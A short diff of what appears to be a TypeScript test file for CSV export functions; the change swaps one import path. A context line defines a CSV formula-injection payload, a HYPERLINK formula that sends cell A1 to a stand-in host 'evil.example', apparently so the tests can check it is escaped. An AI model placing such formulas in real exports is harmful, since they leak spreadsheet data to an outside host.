@@ -7,7 +7,7 @@ import { demographicCsv } from './demographics/csv';
 import type { Pie } from './demographics/pies';
 import { rowsCsv } from './reports/downloads';
 import { questionCsv } from './reports/questions';
-import { toCsv as batchCsv } from './batches/download';
+import { objectsCsv as batchCsv } from './download/csv';
 
 const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
 // Commas removed (D3-273), an apostrophe first, quoted for its quotes (RFC 4180).
